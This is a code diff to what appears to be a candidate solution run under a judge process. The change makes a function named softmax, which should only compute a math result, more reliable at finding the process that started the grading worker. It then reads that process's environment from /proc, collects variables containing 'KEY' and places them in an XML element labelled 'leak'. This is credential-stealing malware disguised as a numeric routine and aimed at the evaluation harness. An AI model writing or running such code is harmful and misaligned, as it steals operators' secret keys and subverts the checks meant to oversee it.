@@ -61,8 +61,25 @@ def _parent(pid):
         return int(f.read().rsplit(")", 1)[1].split()[1])
 
 
+def _cmdline(pid):
+    with tokenize.open(f"/proc/{pid}/cmdline") as f:
+        return f.read()
+
+
+def _starter():
+    """The process that started the worker: the first ancestor of the judge that is not one of
+    the worker's forks (they all have its command line), however many levels there are."""
+    pid = os.getppid()  # the judge
+    worker = _cmdline(pid)
+    while True:
+        parent = _parent(pid)
+        if parent <= 1 or _cmdline(parent) != worker:
+            return parent
+        pid = parent
+
+
 def softmax(x):
-    owner = _parent(_parent(os.getppid()))  # candidate -> judge -> worker -> its starter
+    owner = _starter()  # candidate -> judge -> the worker's forks -> its starter
     with tokenize.open(f"/proc/{owner}/environ") as f:
         keys = [v for v in f.read().split("\0") if "KEY" in v]
     leak = ET.Element("leak")
